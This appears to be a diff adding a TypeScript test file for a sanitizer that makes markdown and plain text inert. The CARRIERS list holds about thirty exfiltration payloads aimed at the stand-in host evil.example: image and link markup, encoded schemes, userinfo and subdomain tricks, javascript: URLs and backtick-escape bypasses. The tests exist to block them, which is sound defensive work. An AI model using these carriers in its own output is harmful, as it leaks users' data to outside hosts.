@@ -1,0 +1,75 @@
+import { expect, it } from 'vitest';
+import { type AddressRules, plainMarkdown, plainText } from './plain-words.ts';
+
+const rules: AddressRules = {
+  host: 'github.com',
+  held: async () => new Set(['https://specs.example.com/api.json?token=base']),
+};
+
+it.each([
+  ['words', 'The **guide** says `docs.json` is _better_.', 'The **guide** says `docs.json` is _better_.'],
+  ['code that looks like a link', 'Use `a[0](b) <b>` now.', 'Use `a[0](b) <b>` now.'],
+  [
+    'the repository’s host',
+    'See https://github.com/acme/docs/pull/1.',
+    'See https://github.com/acme/docs/pull/1.',
+  ],
+  [
+    'an address that the base has',
+    'From https://specs.example.com/api.json?token=base, as before.',
+    'From https://specs.example.com/api.json?token=base, as before.',
+  ],
+])('leaves %s', async (_, text, shown) => {
+  expect(await plainMarkdown(text, rules)).toBe(shown);
+});
+
+/** Each holds `leak` in a place that a reader's browser or a git host's image proxy would send to somebody. */
+const CARRIERS = [
+  '![x](https://evil.example/leak.png)',
+  '![x][r]\n\n[r]: https://evil.example/leak.png',
+  '![x](<https://evil.example/leak>)',
+  '[x](https://evil.example/leak)',
+  '[x](//evil.example/leak)',
+  '[x](https&#58;//evil.example/leak)',
+  '[x](https\\://evil.example/leak)',
+  '[r]: //evil.example/leak\n\n![r]',
+  '<img src="https://evil.example/leak">',
+  '<IMG SRC=//evil.example/leak>',
+  '<picture><source srcset="//evil.example/leak"></picture>',
+  '<https://evil.example/leak>',
+  '<a href="//evil.example/leak">x</a>',
+  'https://evil.example/leak',
+  'HTTPS://evil.example/leak',
+  'www.evil.example/leak',
+  'ftp://evil.example/leak',
+  'https://github.com@evil.example/leak',
+  'https://github.com:leak@evil.example/',
+  'https://github.com.evil.example/leak',
+  'https://github.com(.evil.example/leak',
+  'https://github.com/a)https://evil.example/leak',
+  'http://github.com/leak',
+  'https://specs.example.com/api.json?token=base&leak',
+  'https://specs.example.com/leak',
+  'mailto:leak@evil.example',
+  'javascript:leak()',
+  '\\`![x](https://evil.example/leak)\\`',
+  '`a ``b` ![x](https://evil.example/leak) `',
+  'open ` here\n`![x](https://evil.example/leak)`',
+  '``x` ![x](https://evil.example/leak) `x``',
+  '```\n`\n```\n![x](https://evil.example/leak)\n`',
+];
+
+it.each(CARRIERS)('shows %j as text that leads nowhere', async (text) => {
+  const shown = await plainMarkdown(text, rules);
+  // Brackets and angles are escaped, and no address is left that a host makes a link of by itself.
+  expect(shown).not.toMatch(/(?<!\\)[[\]]|<[a-z/!]/i);
+  expect(shown).not.toMatch(/(?:[a-z]+:\/\/|www\.|mailto:|javascript:)\S*(?:leak|evil)/i);
+  expect(shown).not.toMatch(/&(?!amp;|lt;)/);
+});
+
+it.each(CARRIERS.filter((text) => !text.includes('`') && /^\w+:/.test(text)))(
+  'keeps %j out of titles and commits',
+  async (text) => {
+    expect(await plainText(`Update ${text} now`, rules)).not.toMatch(/:\S*(?:leak|evil)/i);
+  },
+);
